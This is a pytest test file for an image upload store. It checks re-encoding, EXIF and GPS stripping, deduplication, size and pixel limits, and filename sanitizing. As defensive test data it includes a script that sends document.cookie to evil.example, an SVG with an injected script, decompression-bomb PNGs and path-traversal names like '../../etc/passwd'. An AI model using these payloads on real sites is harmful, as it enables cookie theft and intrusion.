"""MediaStore: validation, content addressing, deduplication, thumbnails, and sanitize_filename.

Every image is generated here with Pillow; there are no binary fixtures.
"""

from __future__ import annotations

import hashlib
import io
import unicodedata
from pathlib import Path

import pytest
from PIL import Image

from signage_server.content.media_store import (
    CHUNK_BYTES,
    MAX_FILENAME_BYTES,
    MediaRejected,
    MediaStore,
    sanitize_filename,
)

MAX_BYTES = 2 * 1024 * 1024
MAX_PIXELS = 4_000_000


def image_bytes(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    im = Image.new(mode, size, "red" if mode in ("RGB", "RGBA") else 1)
    # A gradient so that encoders emit real entropy-coded data worth truncating.
    for x in range(0, size[0], 4):
        for y in range(0, size[1], 4):
            im.putpixel((x, y), (x * 7 % 256, y * 5 % 256, 90) if mode == "RGB" else 0)
    out = io.BytesIO()
    im.save(out, fmt, **save)
    return out.getvalue()


def tree(root: Path) -> set[str]:
    """Every file under root (directories created on the way do not count as stored content)."""
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def store(tmp_path: Path) -> MediaStore:
    return MediaStore(tmp_path / "media", max_bytes=MAX_BYTES, max_pixels=MAX_PIXELS)


def reject(store: MediaStore, data: bytes, filename: str, declared: str | None) -> MediaRejected:
    before = tree(store.root) if store.root.exists() else set()
    with pytest.raises(MediaRejected) as info:
        store.ingest(io.BytesIO(data), filename, declared)
    assert tree(store.root) == before, "a rejected upload left files behind"
    return info.value


# --- accepted uploads -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "filename", "declared", "content_type"),
    [
        ("JPEG", "anh.jpg", "image/jpeg", "image/jpeg"),
        ("PNG", "anh.png", "image/png", "image/png"),
        ("WEBP", "anh.webp", "image/webp", "image/webp"),
    ],
)
def test_valid_image_is_stored_with_type_and_size(store, fmt, filename, declared, content_type):
    data = image_bytes(fmt, (64, 48))
    media = store.ingest(io.BytesIO(data), filename, declared)
    stored = store.path(media.sha256).read_bytes()
    assert (media.content_type, media.width, media.height, media.size) == (content_type, 64, 48, len(stored))
    assert media.sha256 == hashlib.sha256(stored).hexdigest()  # the digest of what is stored
    assert media.created is True
    with Image.open(io.BytesIO(stored)) as im:
        assert (im.format, im.size) == (fmt, (64, 48))
    assert store.path(media.sha256) == store.root / media.sha256[:2] / media.sha256


def test_thumbnail_is_a_jpeg_within_320_px(store):
    media = store.ingest(io.BytesIO(image_bytes("PNG", (1000, 500))), "wide.png", "image/png")
    with Image.open(store.thumbnail_path(media.sha256)) as thumb:
        assert (thumb.format, thumb.size) == ("JPEG", (320, 160))


def test_thumbnail_applies_exif_orientation(store):
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    data = image_bytes("JPEG", (400, 200), exif=exif.tobytes())
    media = store.ingest(io.BytesIO(data), "camera.jpg", "image/jpeg")
    assert (media.width, media.height) == (200, 400)  # stored upright: the orientation is applied
    with Image.open(store.path(media.sha256)) as stored:
        assert stored.size == (200, 400) and 0x0112 not in stored.getexif()
    with Image.open(store.thumbnail_path(media.sha256)) as thumb:
        assert thumb.size == (160, 320)


def test_transparent_png_gets_a_thumbnail(store):
    media = store.ingest(io.BytesIO(image_bytes("PNG", (50, 50), mode="RGBA")), "logo.png", None)
    with Image.open(store.thumbnail_path(media.sha256)) as thumb:
        assert thumb.mode == "RGB"


# --- stored re-encoded from the decoded pixels ----------------------------------------------------

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def test_data_after_a_png_s_end_is_not_stored(store):
    data = image_bytes("PNG") + SCRIPT
    media = store.ingest(io.BytesIO(data), "a.png", "image/png")
    stored = store.path(media.sha256).read_bytes()
    assert SCRIPT not in stored and b"<script" not in stored
    assert stored.endswith(b"IEND\xaeB`\x82")  # the file ends with the image
    assert media.sha256 == hashlib.sha256(stored).hexdigest() != hashlib.sha256(data).hexdigest()


def test_data_after_a_jpeg_s_end_is_not_stored(store):
    media = store.ingest(io.BytesIO(image_bytes("JPEG") + SCRIPT), "a.jpg", "image/jpeg")
    stored = store.path(media.sha256).read_bytes()
    assert SCRIPT not in stored and stored.endswith(b"\xff\xd9")


def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (15.0, 7.0, 12.0)  # GPSLatitudeRef, GPSLatitude
    gps[3], gps[4] = "E", (108.0, 48.0, 0.0)
    return exif


@pytest.mark.parametrize(("fmt", "filename"), [("JPEG", "gps.jpg"), ("PNG", "gps.png"), ("WEBP", "gps.webp")])
def test_exif_with_a_gps_position_is_not_stored(store, fmt, filename):
    data = image_bytes(fmt, exif=gps_exif().tobytes())
    with Image.open(io.BytesIO(data)) as sent:
        assert sent.getexif().get_ifd(0x8825)  # the upload does carry a position
    media = store.ingest(io.BytesIO(data), filename, None)
    stored = store.path(media.sha256).read_bytes()
    assert b"PhoneMaker" not in stored and b"Exif" not in stored
    with Image.open(io.BytesIO(stored)) as im:
        assert not im.getexif().get_ifd(0x8825) and len(im.getexif()) == 0


def test_png_text_chunks_are_not_stored(store):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "secret note")
    media = store.ingest(io.BytesIO(image_bytes("PNG", pnginfo=info)), "a.png", "image/png")
    assert b"secret note" not in store.path(media.sha256).read_bytes()


def test_png_pixels_and_transparency_are_kept_exactly(store):
    im = Image.new("RGBA", (30, 20), (10, 20, 30, 0))
    im.putpixel((3, 4), (200, 100, 50, 128))
    out = io.BytesIO()
    im.save(out, "PNG")
    media = store.ingest(io.BytesIO(out.getvalue() + SCRIPT), "a.png", "image/png")
    with Image.open(store.path(media.sha256)) as stored:
        assert stored.mode == "RGBA" and stored.tobytes() == im.tobytes()


def test_the_icc_colour_profile_is_kept(store):
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    media = store.ingest(io.BytesIO(image_bytes("JPEG", icc_profile=icc)), "a.jpg", "image/jpeg")
    with Image.open(store.path(media.sha256)) as stored:
        assert stored.info.get("icc_profile") == icc


def test_a_jpeg_is_re_encoded_at_a_sane_quality(store):
    from PIL import ImageChops, ImageStat

    photo = Image.radial_gradient("L").resize((256, 256)).convert("RGB")
    out = io.BytesIO()
    photo.save(out, "JPEG", quality=95)
    media = store.ingest(io.BytesIO(out.getvalue()), "photo.jpg", "image/jpeg")
    with Image.open(io.BytesIO(out.getvalue())) as sent, Image.open(store.path(media.sha256)) as stored:
        luma_steps = list(stored.quantization[0])
        # Mean luminance step: quality 100 is 1 (files several times larger), 90 about 11.5, 50 about 58.
        assert 2 < sum(luma_steps) / len(luma_steps) < 15
        error = ImageStat.Stat(ImageChops.difference(sent.convert("RGB"), stored.convert("RGB"))).mean
        assert max(error) < 2.0  # mean absolute difference per channel, out of 255


def test_the_same_pixels_with_other_metadata_or_trailing_data_are_stored_once(store):
    plain = image_bytes("PNG")
    first = store.ingest(io.BytesIO(plain), "a.png", "image/png")
    second = store.ingest(io.BytesIO(image_bytes("PNG", exif=gps_exif().tobytes()) + SCRIPT), "b.png", None)
    assert (first.created, second.created) == (True, False) and first.sha256 == second.sha256


def test_same_bytes_are_stored_once(store):
    data = image_bytes("PNG")
    first = store.ingest(io.BytesIO(data), "a.png", "image/png")
    second = store.ingest(io.BytesIO(data), "b.png", "image/png")
    assert (first.created, second.created) == (True, False)
    assert first.sha256 == second.sha256
    assert second.safe_name == "b.png"
    assert tree(store.root) == {
        f"{first.sha256[:2]}/{first.sha256}",
        f"thumbs/{first.sha256[:2]}/{first.sha256}.jpg",
    }


@pytest.mark.parametrize("declared", [None, "", "application/octet-stream", "image/jpg", "IMAGE/JPEG; q=1"])
def test_generic_or_alias_declared_type_is_accepted(store, declared):
    media = store.ingest(io.BytesIO(image_bytes("JPEG")), "photo.JPG", declared)
    assert media.content_type == "image/jpeg"


def test_file_name_without_extension_is_accepted(store):
    assert store.ingest(io.BytesIO(image_bytes("WEBP")), "upload", None).content_type == "image/webp"


def test_safe_name_is_recorded(store):
    media = store.ingest(io.BytesIO(image_bytes("PNG")), "../../etc/Thông báo.png", "image/png")
    assert media.safe_name == "Thông báo.png"


def test_no_temporary_file_remains_after_success(store):
    store.ingest(io.BytesIO(image_bytes("PNG")), "a.png", "image/png")
    assert list((store.root / "tmp").iterdir()) == []


# --- rejected uploads -----------------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "filename"), [("JPEG", "cut.jpg"), ("PNG", "cut.png"), ("WEBP", "cut.webp")])
def test_truncated_image_is_rejected(store, fmt, filename):
    data = image_bytes(fmt, (300, 200), **({"quality": 95} if fmt != "PNG" else {}))
    error = reject(store, data[: len(data) * 2 // 3], filename, None)
    assert error.status_code == 400
    assert "truncated" in str(error)


def test_corrupt_png_chunk_is_rejected(store):
    data = bytearray(image_bytes("PNG", (100, 100)))
    data[60] ^= 0xFF  # inside the first IDAT: its CRC no longer matches
    assert reject(store, bytes(data), "bad.png", "image/png").status_code == 400


def test_png_labelled_as_jpeg_is_rejected_naming_the_real_type(store):
    error = reject(store, image_bytes("PNG"), "photo.jpg", "image/jpeg")
    assert error.status_code == 400
    assert "mislabelled" in str(error) and "PNG" in str(error)


def test_extension_of_another_type_is_rejected(store):
    error = reject(store, image_bytes("JPEG"), "photo.png", None)
    assert error.status_code == 400
    assert ".png" in str(error) and "JPEG" in str(error)


def test_empty_file_is_rejected(store):
    error = reject(store, b"", "empty.jpg", "image/jpeg")
    assert error.status_code == 400
    assert "empty" in str(error)


class CountingStream(io.RawIOBase):
    """An endless stream of bytes that records how much was read from it."""

    def __init__(self) -> None:
        self.read_total = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[override]
        n = len(buffer)
        buffer[:n] = b"\xff" * n
        self.read_total += n
        return n


def test_oversize_upload_is_rejected_without_reading_it_all(store):
    stream = CountingStream()
    before = tree(store.root) if store.root.exists() else set()
    with pytest.raises(MediaRejected) as info:
        store.ingest(stream, "huge.jpg", "image/jpeg")  # type: ignore[arg-type]
    assert info.value.status_code == 413
    assert "2 MiB" in str(info.value)
    assert stream.read_total <= MAX_BYTES + CHUNK_BYTES
    assert tree(store.root) == before


def test_file_exactly_at_the_limit_is_not_oversize(tmp_path):
    data = image_bytes("PNG")
    store = MediaStore(tmp_path, max_bytes=len(data), max_pixels=MAX_PIXELS)
    assert store.ingest(io.BytesIO(data), "a.png", None).size == len(data)


def bomb_png(size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("1", size, 0).save(out, "PNG", optimize=True)
    return out.getvalue()


def test_image_over_the_pixel_limit_is_rejected_before_decoding(store):
    data = bomb_png((2500, 2000))  # 5 MP against a 4 MP limit
    error = reject(store, data, "big.png", "image/png")
    assert error.status_code == 422
    assert "2500x2000" in str(error) and "4 megapixels" in str(error)


def test_decompression_bomb_is_rejected(tmp_path):
    data = bomb_png((10_000, 10_000))  # 100 MP, past Pillow's own warning threshold
    assert len(data) < 500_000
    store = MediaStore(tmp_path / "media", max_bytes=MAX_BYTES, max_pixels=40_000_000)
    error = reject(store, data, "bomb.png", "image/png")
    assert error.status_code == 422
    assert "40 megapixels" in str(error)


@pytest.mark.parametrize(
    ("data", "filename", "declared", "named"),
    [
        (image_bytes("GIF"), "anim.gif", "image/gif", "GIF"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "a.svg", None, "SVG"),
        (b"<?xml version='1.0'?>\n<svg/>", "b.svg", "image/svg+xml", "SVG"),
        ("Thông báo họp dân".encode(), "note.txt", "text/plain", "this file"),
        (image_bytes("BMP"), "x.bmp", None, "this file"),
    ],
)
def test_unsupported_type_is_rejected_with_415(store, data, filename, declared, named):
    error = reject(store, data, filename, declared)
    assert error.status_code == 415
    assert named in str(error) and "JPEG, PNG or WebP" in str(error)


# --- paths ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad",
    [
        "../" + "a" * 61,
        "a" * 63,
        "A" * 64,
        "g" * 64,
        "a" * 64 + "/",
        "..",
        "",
        "aa/../../../../etc/passwd".ljust(64, "a"),
    ],
)
def test_path_rejects_anything_but_a_sha256(store, bad):
    with pytest.raises(ValueError):
        store.path(bad)
    with pytest.raises(ValueError):
        store.thumbnail_path(bad)


def test_exists_and_delete(store):
    media = store.ingest(io.BytesIO(image_bytes("PNG")), "a.png", None)
    assert store.exists(media.sha256)
    assert store.delete(media.sha256) is True
    assert not store.exists(media.sha256)
    assert not store.thumbnail_path(media.sha256).exists()
    assert store.delete(media.sha256) is False


def test_exists_is_false_for_unknown_digest(store):
    assert store.exists("0" * 64) is False


def test_stale_temp_files_are_removed(store):
    media = store.ingest(io.BytesIO(image_bytes("PNG")), "a.png", None)
    (store.root / "tmp" / "tmpab12.upload").write_bytes(b"half an upload")
    assert store.remove_stale_temp_files() == 1
    assert tree(store.root) == {
        f"{media.sha256[:2]}/{media.sha256}",
        f"thumbs/{media.sha256[:2]}/{media.sha256}.jpg",
    }


def test_removing_stale_temp_files_from_a_fresh_store_is_a_no_op(store):
    assert store.remove_stale_temp_files() == 0


def test_constructing_a_store_touches_nothing(tmp_path):
    MediaStore(tmp_path / "media", max_bytes=1, max_pixels=1)
    assert not (tmp_path / "media").exists()


# --- sanitize_filename ------------------------------------------------------------------------------

NFD_NAME = unicodedata.normalize("NFD", "Thông báo lũ lụt Quảng Ngãi.jpg")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("anh.jpg", "anh.jpg"),
        (NFD_NAME, "Thông báo lũ lụt Quảng Ngãi.jpg"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\a.png", "a.png"),
        ("\\\\server\\share\\a.png", "a.png"),
        ("C:\\Users\\Lan\\Ảnh đẹp.webp", "Ảnh đẹp.webp"),
        ("CON.jpg", "_CON.jpg"),
        ("con", "_con"),
        ("lpt1.tar.gz", "_lpt1.tar.gz"),
        ("nul.png", "_nul.png"),
        ("console.png", "console.png"),
        (".htaccess", "htaccess"),
        ("...", "file"),
        ("", "file"),
        ("/", "file"),
        ("a/", "file"),
        ("  .jpg", "jpg"),
        ("a\x00b\x1fc\x7f.png", "abc.png"),
        ("evil\u202egnp.exe", "evilgnp.exe"),
        ('a<b>c:d"e|f?g*.png', "a_b_c_d_e_f_g_.png"),
        ("trailing. . ", "trailing"),
        ("hai  khoảng\ttrắng.png", "hai khoảngtrắng.png"),
    ],
)
def test_sanitize_filename(raw, expected):
    assert sanitize_filename(raw) == expected


def test_sanitize_filename_limits_length_and_keeps_the_extension():
    name = sanitize_filename("ệ" * 300 + ".jpeg")
    assert name.endswith(".jpeg")
    assert len(name.encode("utf-8")) <= MAX_FILENAME_BYTES
    assert name[:-5] == "ệ" * len(name[:-5])  # cut between letters, never inside one


def test_sanitize_filename_treats_a_long_suffix_as_part_of_the_name():
    name = sanitize_filename("a." + "b" * 400)
    assert name.startswith("a.b") and len(name.encode()) <= MAX_FILENAME_BYTES
